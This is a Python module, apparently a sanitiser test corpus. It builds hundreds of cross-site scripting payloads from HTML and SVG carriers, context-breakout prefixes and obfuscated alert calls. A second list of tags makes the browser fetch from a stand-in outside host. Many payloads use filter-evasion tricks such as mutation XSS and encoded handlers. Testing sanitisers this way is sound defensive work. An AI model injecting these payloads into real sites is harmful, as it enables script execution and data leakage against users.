"""Hostile text by the hundred, made of parts: what could carry a script, and how it would be let out of where it stands.

Each calls ``alert`` with a number of its own, or fetches from a host that is none of ours: so a browser shows which got
through.
"""

from __future__ import annotations

from itertools import product

SPY = "https://spy.test"
SELF_STARTING = [
    "<img src=x onerror={js}>",
    "<svg/onload={js}>",
    "<svg><animate onbegin={js} attributeName=x dur=1s></svg>",
    "<svg><set onbegin={js} attributeName=x to=y></svg>",
    "<svg><script>{js}</script></svg>",
    "<svg><a><rect width=99 height=99 /><animate attributeName=href to=javascript:{js} /></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={js} />#x'></svg>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}></audio>",
    "<video poster=javascript:{js}//></video>",
    "<details open ontoggle={js}>x</details>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<button autofocus onfocus={js}>x</button>",
    "<marquee onstart={js}>x</marquee>",
    "<body onload={js}>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<iframe src=javascript:{js}></iframe>",
    "<object data=javascript:{js}></object>",
    "<embed src=javascript:{js}>",
    "<script>{js}</script>",
    "<script src=data:,{js}></script>",
    "<script type=module>{js}</script>",
    "<style onload={js}></style>",
    "<link rel=stylesheet href=x onerror={js}>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}></style></mglyph></table></mtext></math>",
    "<math href=javascript:{js}>x</math>",
    "<form><button formaction=javascript:{js} autofocus>x</button></form>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'></noscript>",
    "<template><img src=x onerror={js}></template>",
    "<xmp><p title='</xmp><svg/onload={js}>'>",
    "<title><img title='</title><img src=x onerror={js}>'></title>",
    "<div style='animation-name:x' onanimationstart={js}><style>@keyframes x{{}}</style></div>",
    "<p hidden=until-found onbeforematch={js}>x</p>",
    "<img src=x:x onerror&#61;{js}>",
    "<!--<img src='--><img src=x onerror={js}>'>",
    "<![CDATA[<img src=x onerror={js}>]]>",
    "<a href='javascript:{js}' autofocus onfocus={js}>x</a>",
]
LEAVING = ["{it}", "\"'>{it}", "</textarea></title></style></script>{it}", "--!>{it}<!--", "\u2028{it}"]
SPELT = ["alert({n})", "alert&#40;{n}&#41;", "top['al'+'ert']({n})"]
FETCHING = [
    f"<img src={SPY}/a.gif>",
    f"<img srcset='{SPY}/b.gif 1x'>",
    f"<picture><source srcset={SPY}/c.gif><img></picture>",
    f"<p style='background:url({SPY}/d.png)'>x</p>",
    f'<p style="background:u\\72l({SPY}/e.png)">x</p>',
    f"<style>@import '{SPY}/f.css'</style>",
    f"<style>p{{background:url({SPY}/g.png)}}</style>",
    f"<link rel=stylesheet href={SPY}/h.css>",
    f"<link rel=prefetch href={SPY}/i>",
    f"<link rel=preconnect href={SPY}>",
    f"<link rel=dns-prefetch href={SPY}>",
    f"<link rel=icon href={SPY}/j.ico>",
    f"<video poster={SPY}/k.png></video>",
    f"<video src={SPY}/l.mp4 autoplay></video>",
    f"<audio src={SPY}/m.mp3 autoplay></audio>",
    f"<iframe src={SPY}/n></iframe>",
    f"<object data={SPY}/o></object>",
    f"<embed src={SPY}/p>",
    f"<svg><image href={SPY}/q.png /></svg>",
    f"<svg><use href={SPY}/r.svg#x /></svg>",
    f"<svg><filter><feImage href={SPY}/s.png /></filter></svg>",
    f"<input type=image src={SPY}/t.png>",
    f"<body background={SPY}/u.png>",
    f"<table background={SPY}/v.png><td background={SPY}/w.png>x</td></table>",
    f"<meta http-equiv=refresh content='0;url={SPY}/x'>",
    f"<base href={SPY}/><img src=y.gif>",
    f"<script src={SPY}/z.js></script>",
    f"<track src={SPY}/1.vtt>",
    f"<form action={SPY}/2><input autofocus></form>",
    f"<ul style='list-style-image:url({SPY}/3.png)'><li>x</ul>",
    f"<p style='cursor:url({SPY}/4.cur),auto;content:url({SPY}/5.png)'>x</p>",
    f"<p style='border-image:url({SPY}/6.png) 1'>x</p>",
    f"<p style='mask:url({SPY}/7.svg)'>x</p>",
    f"<p style='background-image:image-set(\"{SPY}/8.png\" 1x)'>x</p>",
    f"<a href={SPY}/9 ping={SPY}/10>x</a>",
]


def payloads() -> list[str]:
    """All of them, each once."""
    ways = list(product(SELF_STARTING, LEAVING, SPELT))
    carried = [
        leaving.format(it=carrier.format(js=spelt.format(n=number))) for number, (carrier, leaving, spelt) in enumerate(ways)
    ]
    return list(dict.fromkeys([*carried, *FETCHING]))


def short(most: int) -> list[str]:
    """Those that fit where only so many characters do, the shortest first."""
    return sorted((each for each in payloads() if len(each) <= most), key=len)
